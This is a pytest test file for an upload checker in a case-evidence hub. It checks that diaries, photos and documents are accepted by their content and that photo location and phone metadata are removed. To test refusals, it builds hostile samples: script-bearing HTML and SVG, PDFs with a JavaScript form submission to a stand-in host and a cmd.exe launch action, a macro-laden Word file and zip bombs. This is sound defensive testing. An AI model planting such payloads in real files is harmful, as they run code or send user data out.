"""What the hub accepts as a case's file is judged by its content: good diary sheets,
photos, Word documents and text are accepted (images and PDFs with a preview drawn from
their pixels); bad files are refused at the file field with a message saying what is
wrong, and the name's extension never decides."""

from __future__ import annotations

import io

import pydyf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from sharing.errors import InputError
from sharing.files.checks import ACCEPTED, checked
from tests.fixtures.files import (
    OPEN_PROGRAM,
    OPEN_SCRIPT,
    PHONE,
    PROGRAM,
    SVG_WITH_SCRIPT,
    TAKEN,
    docx,
    jpeg,
    pdf,
    pdf_compressed,
    phone_photo,
    png,
    zip_archive,
)

MB = 1024 * 1024


@pytest.mark.parametrize(
    ("name", "content", "media_type", "previewed"),
    [
        ("diary sheet.pdf", pdf("Monday 3 March: music until 2am"), "application/pdf", True),
        ("IMG_0042.JPG", jpeg(), "image/jpeg", True),
        ("photo.png", png("taken from the landing"), "image/png", True),
        ("photo.jpeg", png("a PNG named as a JPEG is still a PNG"), "image/png", True),
        (
            "diary.docx",
            docx(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            False,
        ),
        ("notes.txt", b"Tuesday: door slammed at 11pm, 12.40am\n", "text/plain", False),
    ],
)
def test_good_files_are_accepted_by_their_content(name, content, media_type, previewed) -> None:
    found = checked("file", name, content, 20 * MB)
    assert found.content_type == media_type
    assert (found.preview is not None) is previewed
    if found.preview is not None:
        preview = Image.open(io.BytesIO(found.preview))
        assert preview.format == "JPEG"
        assert max(preview.size) <= 480
        assert b"taken from the landing" not in found.preview  # pixels only, no metadata


EMAIL = (
    b"From: Jo Bloggs <jo@example.com>\nTo: asb@larkmoor-ha.example\nSubject: Noise again\n"
    b"Date: Mon, 1 Jun 2026 10:00:00 +0100\n\nThe music started at 11pm again.\n"
)
OUTLOOK_COPY = (
    b"From: Jo Bloggs\nSent: 01 June 2026 10:00\nTo: ASB team\nSubject: Noise again\n\n"
    b"The music started at 11pm again.\n"
)
CSV_DIARY = b"Date,Time,What happened\n01/06/2026,23:00,Loud music\n02/06/2026,23:30,Shouting\n"
MENTIONS_HTML = b"Notes: he said <html> was written on the wall\n"
MENTIONS_SCRIPT = "Dziennik: sąsiad krzyczał, a on napisał <script> na drzwiach\n".encode()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("email.txt", EMAIL),  # the detection says message/rfc822
        ("email.txt", OUTLOOK_COPY),
        ("diary.csv", CSV_DIARY),  # text/csv
        ("diary.txt", MENTIONS_HTML),  # text/html, for a word in a sentence
        ("dziennik.txt", MENTIONS_SCRIPT),
        ("notes", b"#!/bin/sh is what he sprayed on the door\n"),  # text/x-shellscript
    ],
)
def test_utf8_text_of_another_text_type_is_accepted_as_a_text_file(name, content) -> None:
    """An e-mail saved as text, a diary kept as CSV, a note that mentions a web page's
    tag: text the detection calls by another text type is kept, and served, as text."""
    found = checked("file", name, content, 20 * MB)
    assert found.content_type == "text/plain"
    assert found.accepted.extension == ".txt"
    assert found.preview is None


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        (
            "notes.txt",
            b"<html><body>hello</body></html>",
            "it is a web page, which can carry scripts",
        ),
        ("notes.txt", b"  <!DOCTYPE html><p>x", "it is a web page, which can carry scripts"),
        ("notes.txt", b"<script>alert(1)</script>", "it is a web page, which can carry scripts"),
        ("notes.txt", b'<?xml version="1.0"?><note>x</note>', "it is an XML document"),
        ("notes.txt", SVG_WITH_SCRIPT, "it is an SVG drawing, which can carry scripts"),
        ("diary.csv", "Date,What\n1 June,caf\xe9\n".encode("latin-1"), "not in UTF-8"),
    ],
)
def test_text_that_is_markup_or_not_utf8_is_still_refused(name, content, message) -> None:
    with pytest.raises(InputError) as refused:
        checked("file", name, content, 20 * MB)
    assert refused.value.field == "file"
    assert message in refused.value.message


@pytest.mark.parametrize(
    ("media_type", "photo"),
    [
        ("image/jpeg", phone_photo("JPEG")),
        ("image/jpeg", phone_photo("JPEG", progressive=True)),
        ("image/png", phone_photo("PNG")),
        ("image/webp", phone_photo("WEBP", lossless=True)),
    ],
)
def test_a_photo_is_kept_without_where_it_was_taken_or_the_phone_that_took_it(
    media_type, photo
) -> None:
    """A partner who downloads a photo learns nothing of where the victim's phone was, nor
    of the phone; the picture is the same, the same way up, with when it was taken."""
    found = checked("file", "photo", photo, 20 * MB)
    assert found.content_type == media_type
    kept = Image.open(io.BytesIO(found.content))
    exif = kept.getexif()
    assert exif.get_ifd(0x8825) == {}  # no GPS
    assert not {0x010F, 0x0110, 0x9286} & set(exif)  # no make, model or comment
    for value in (*PHONE, "Flat 3"):
        assert value.encode() not in found.content
    assert exif[0x0112] == 6  # still turned as the phone held it
    assert exif.get_ifd(0x8769) == {0x9003: TAKEN}
    assert kept.tobytes() == Image.open(io.BytesIO(photo)).tobytes()  # the same pixels


def test_a_photo_without_metadata_and_other_files_are_kept_as_they_came() -> None:
    for name, content in (("diary.pdf", pdf("x")), ("notes.txt", b"Monday\n"), ("a.docx", docx())):
        assert checked("file", name, content, 20 * MB).content == content
    plain = checked("file", "photo.jpg", jpeg(), 20 * MB).content
    assert Image.open(io.BytesIO(plain)).tobytes() == Image.open(io.BytesIO(jpeg())).tobytes()


def _huge_png() -> bytes:
    out = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(out, "PNG")  # 100 million pixels in ~15 KB
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "limit", "message"),
    [
        ("diary.pdf", b"", 20 * MB, "The file is empty"),
        ("diary.pdf", pdf("x" * 3000), 2048, "The file is 4 KB: the most a file can be is 2 KB"),
        (  # a little over the limit reads as over it, never as the limit itself
            "diary.txt",
            b"x" * (2 * MB + 1000),
            2 * MB,
            "The file is 2.1 MB: the most a file can be is 2 MB",
        ),
        ("diary.pdf", PROGRAM, 20 * MB, "named as a PDF but is not one: it is a program"),
        (  # an iPhone's photo, as it comes off the phone
            "IMG_0412.HEIC",
            b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64,
            20 * MB,
            "The file is a HEIC photo (an iPhone's own format), which the hub does not accept: "
            "share or export it as a JPEG",
        ),
        (  # bytes nothing recognises: said so, not named by a MIME type
            "evidence.dat",
            bytes([0x8F, 0x13, 0xA7, 0x52]) * 300,
            20 * MB,
            "The file is of a type the hub does not recognise. Attach photos as JPEG",
        ),
        (
            "statement.pdf",
            b"<html><body><script>alert(1)</script></body></html>",
            20 * MB,
            "named as a PDF but is not one: it is a web page, which can carry scripts",
        ),
        ("photo.png", SVG_WITH_SCRIPT, 20 * MB, "it is an SVG drawing, which can carry scripts"),
        ("plan.svg", SVG_WITH_SCRIPT, 20 * MB, "The file is an SVG drawing"),
        ("diaries.zip", zip_archive(), 20 * MB, "a ZIP archive: attach each file in it on its own"),
        (
            "diary.docx",
            docx(expanded_bytes=300 * MB),
            20 * MB,
            "would expand to 300 MB when opened, far more than its size: it is refused as a "
            "possible zip bomb",
        ),
        (
            "diary.docx",
            docx(macros=True),
            20 * MB,
            "The Word document carries macros, a program its reader may run",
        ),
        ("photo.jpg", b"\xff\xd8\xff\xe0" + bytes(300), 20 * MB, "cannot be opened: it is damaged"),
        ("diary.pdf", b"%PDF-1.4\n1 0 obj broken", 20 * MB, "The PDF cannot be opened"),
        (
            "diary.pdf",
            pdf("x").replace(b"/Type /Page /Parent", b"/Type /Pagex /Parent"),
            20 * MB,
            "The PDF cannot be opened: it is damaged",
        ),
        (
            "diary.pdf",
            pdf("x").replace(b"/Kids [3 0 R]", b"/Kids [9 0 R]"),
            20 * MB,
            "The PDF cannot be opened: it is damaged",
        ),
        ("photo.png", _huge_png(), 20 * MB, "more than 64 million pixels"),
        ("notes.txt", b"caf\xe9 \xff\xfe", 20 * MB, "not in UTF-8"),
    ],
)
def test_bad_files_are_refused_at_the_file_field_saying_why(name, content, limit, message) -> None:
    with pytest.raises(InputError) as refused:
        checked("file", name, content, limit)
    assert refused.value.field == "file"
    assert message in refused.value.message
    assert name.split(".")[0] not in refused.value.message  # the file's name is not repeated


SCRIPTED = "The PDF carries a script or an action that starts a program"


@pytest.mark.parametrize(
    "content",
    [
        pdf("Diary for March", OPEN_SCRIPT),
        pdf("Diary for March", OPEN_PROGRAM),  # its name written as /L#61unch
        pdf_compressed(
            "Diary for March",
            {"S": "/JavaScript", "JS": pydyf.String("this.submitForm('https://example.net/')")},
        ),
        pdf_compressed("Diary for March", {"S": "/Launch", "F": pydyf.String("cmd.exe")}),
    ],
    ids=["script", "program", "compressed script", "compressed program"],
)
def test_a_pdf_carrying_a_script_or_a_program_is_refused_at_the_file_field(content) -> None:
    """A PDF reader runs a PDF's scripts (which can send what a partner types, or open
    pages) and its launch actions when the PDF is opened: refused as a web page is, whether
    the PDF's objects are written plainly or compressed together as modern tools write
    them."""
    with pytest.raises(InputError) as refused:
        checked("file", "diary.pdf", content, 20 * MB)
    assert refused.value.field == "file"
    assert SCRIPTED in refused.value.message


def test_a_pdf_written_compressed_without_a_script_is_accepted() -> None:
    content = pdf_compressed("Diary for March: JavaScript /JS and Launch are only words here")
    found = checked("file", "diary.pdf", content, 20 * MB)
    assert found.content_type == "application/pdf"
    assert found.preview is not None


@settings(max_examples=60, deadline=None)
@given(
    name=st.sampled_from(["a.pdf", "a.png", "a.jpg", "a.docx", "a.txt", "a"]),
    content=st.binary(max_size=2048),
)
def test_any_bytes_are_accepted_or_refused_with_a_message_never_a_crash(name, content) -> None:
    refused: InputError | None = None
    try:
        found = checked("file", name, content, 20 * MB)
    except InputError as e:
        refused = e
    if refused is None:
        assert found.content_type in ACCEPTED
    else:
        assert refused.field == "file"
        assert refused.message
